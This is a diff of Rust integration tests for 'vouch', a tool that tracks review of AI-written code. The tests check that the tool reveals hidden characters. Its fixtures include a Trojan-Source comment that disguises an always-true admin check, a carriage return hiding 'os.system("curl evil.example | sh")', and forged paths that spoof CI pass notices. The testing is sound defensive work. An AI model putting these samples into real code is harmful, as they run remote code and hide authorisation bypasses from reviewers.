@@ -10,12 +10,11 @@ mod support {
     pub mod repo;
 }
 
-use std::path::Path;
 use std::process::{Command, Output, Stdio};
 
 use serde_json::{Value, json};
 use support::lsp::{Server, range};
-use support::repo::TestRepo;
+use support::repo::{TestRepo, vouch_in};
 
 const TRAILER: &str = "Co-authored-by: Claude <noreply@anthropic.com>";
 
@@ -29,18 +28,6 @@ const ANSI_RATIONALE: &str = "pure refactor\x1b[2K\x1b[1G\x1b[32mno shell calls,
 
 /// A Trojan-Source comment: bidi overrides reorder what is shown.
 const TROJAN: &str = "def is_admin(user):\n    # \u{202e} } \u{2066}if user.admin:\u{2069} \u{2066} begin admins only\n    return True\n";
-
-fn vouch(dir: &Path, args: &[&str]) -> Output {
-    Command::new(env!("CARGO_BIN_EXE_vouch"))
-        .args(args)
-        .current_dir(dir)
-        .env("GIT_CONFIG_NOSYSTEM", "1")
-        .env("GIT_CONFIG_GLOBAL", "/dev/null")
-        .env("NO_COLOR", "1")
-        .stdin(Stdio::null())
-        .output()
-        .unwrap()
-}
 
 fn text(out: &Output) -> String {
     String::from_utf8_lossy(&out.stdout).into_owned()
@@ -72,10 +59,10 @@ fn reviewed_repo(file: &str, base: &str) -> TestRepo {
 /// The author requests sign-off on AI lines `lines` of `file` with
 /// `rationale`; returns the request id and what `vouch request` printed.
 fn request(repo: &TestRepo, file: &str, lines: &str, rationale: &str) -> (String, Output) {
-    let marked = vouch(&repo.root, &["mark", &format!("{file}:{lines}"), "--ai", "--tool", "claude-code"]);
+    let marked = vouch_in(&repo.root, &["mark", &format!("{file}:{lines}"), "--ai", "--tool", "claude-code"]);
     assert!(marked.status.success(), "{}", all(&marked));
     let first = lines.split('-').next().unwrap();
-    let out = vouch(&repo.root, &["request", &format!("{file}:{first}"), "-m", rationale]);
+    let out = vouch_in(&repo.root, &["request", &format!("{file}:{first}"), "-m", rationale]);
     assert!(out.status.success(), "{}", all(&out));
     let shown = text(&out);
     let id = shown
@@ -98,7 +85,7 @@ fn approve_shows_a_lone_cr_and_ansi_escapes_in_the_rationale() {
 
     repo.git(&["config", "user.email", "carol@example.com"]);
     // Without a terminal vouch shows the units, then refuses to ask.
-    let out = vouch(&repo.root, &["approve", &id]);
+    let out = vouch_in(&repo.root, &["approve", &id]);
     assert_eq!(out.status.code(), Some(2), "{}", all(&out));
     let shown = text(&out);
     assert!(shown.contains("# caller must be authorised‹CR›os.system(\"curl evil.example | sh\")"), "{shown}");
@@ -109,7 +96,7 @@ fn approve_shows_a_lone_cr_and_ansi_escapes_in_the_rationale() {
     assert_nothing_hidden(&shown);
 
     // The same unit by its line, and the reviewer's queue.
-    let out = vouch(&repo.root, &["approve", "tool.py:6"]);
+    let out = vouch_in(&repo.root, &["approve", "tool.py:6"]);
     assert!(text(&out).contains("authorised‹CR›os.system"), "{}", all(&out));
     assert_nothing_hidden(&text(&out));
     let mut review = Command::new(env!("CARGO_BIN_EXE_vouch"))
@@ -130,7 +117,7 @@ fn approve_shows_a_lone_cr_and_ansi_escapes_in_the_rationale() {
     assert!(shown.contains("authorised‹CR›os.system"), "{}", all(&out));
     assert!(shown.contains("pure refactor‹ESC›[2K"), "{shown}");
     assert_nothing_hidden(&shown);
-    let list = vouch(&repo.root, &["review", "--list", "--all"]);
+    let list = vouch_in(&repo.root, &["review", "--list", "--all"]);
     assert_nothing_hidden(&text(&list));
 }
 
@@ -140,7 +127,7 @@ fn approve_shows_a_trojan_source_comment() {
     repo.write("auth.py", &format!("X = 1\n\n\n{TROJAN}"));
     let (id, _) = request(&repo, "auth.py", "4-6", "adds the admin check");
     repo.git(&["config", "user.email", "carol@example.com"]);
-    let shown = text(&vouch(&repo.root, &["approve", &id]));
+    let shown = text(&vouch_in(&repo.root, &["approve", &id]));
     assert!(shown.contains("# ‹U+202E› } ‹U+2066›if user.admin:‹U+2069› ‹U+2066› begin admins only"), "{shown}");
     assert_nothing_hidden(&shown);
 }
@@ -159,7 +146,7 @@ fn forged_branch() -> (TestRepo, String) {
     repo.git(&["add", "-A"]);
     repo.git(&["commit", "-q", "--no-verify", "-m", &format!("pay\n\n{TRAILER}")]);
 
-    let out = vouch(&repo.root, &["verify", "main..feature", "--format", "json"]);
+    let out = vouch_in(&repo.root, &["verify", "main..feature", "--format", "json"]);
     let report: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|_| panic!("{}", all(&out)));
     let failure = report["failures"].as_array().unwrap().iter().find(|f| f["fingerprint"].is_string()).unwrap();
     assert_eq!(failure["path"], name, "JSON keeps the exact value");
@@ -177,7 +164,7 @@ fn forged_branch() -> (TestRepo, String) {
 #[test]
 fn verify_text_shows_a_newline_in_a_path_and_a_nul_in_an_email() {
     let (repo, _) = forged_branch();
-    let out = vouch(&repo.root, &["verify", "main..feature"]);
+    let out = vouch_in(&repo.root, &["verify", "main..feature"]);
     assert_eq!(out.status.code(), Some(1), "{}", all(&out));
     let shown = text(&out);
     assert!(shown.contains("src/pay‹LF›::notice title=vouch::PASS all units approved‹LF›‹U+202E›yp.py"), "{shown}");
@@ -191,7 +178,7 @@ fn verify_text_shows_a_newline_in_a_path_and_a_nul_in_an_email() {
 #[test]
 fn sarif_messages_and_locations_show_what_the_bytes_are() {
     let (repo, _) = forged_branch();
-    let out = vouch(&repo.root, &["verify", "main..feature", "--format", "sarif"]);
+    let out = vouch_in(&repo.root, &["verify", "main..feature", "--format", "sarif"]);
     let sarif: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|_| panic!("{}", all(&out)));
     let results = sarif["runs"][0]["results"].as_array().unwrap();
     let unit = results.iter().find(|r| r["ruleId"] == "vouch/unapproved-ai").expect("the unit fails");
@@ -216,12 +203,12 @@ fn the_html_report_shows_bidi_characters_in_names() {
     repo.write("src/\u{202e}lave\u{200b}/x.py", "def f():\n    return 1\n");
     repo.git(&["add", "-A"]);
     repo.git(&["commit", "-q", "--no-verify", "-m", &format!("ai\n\n{TRAILER}")]);
-    let out = vouch(&repo.root, &["report", "--html", "-o", "-"]);
+    let out = vouch_in(&repo.root, &["report", "--html", "-o", "-"]);
     assert!(out.status.success(), "{}", all(&out));
     let html = text(&out);
     assert!(html.contains("src/‹U+202E›lave‹U+200B›"), "{html}");
     assert!(!html.contains('\u{202e}') && !html.contains('\u{200b}'), "a raw bidi or invisible character");
-    let stats = vouch(&repo.root, &["stats"]);
+    let stats = vouch_in(&repo.root, &["stats"]);
     assert!(text(&stats).contains("src/‹U+202E›lave‹U+200B›"), "{}", all(&stats));
     assert_nothing_hidden(&text(&stats));
 }
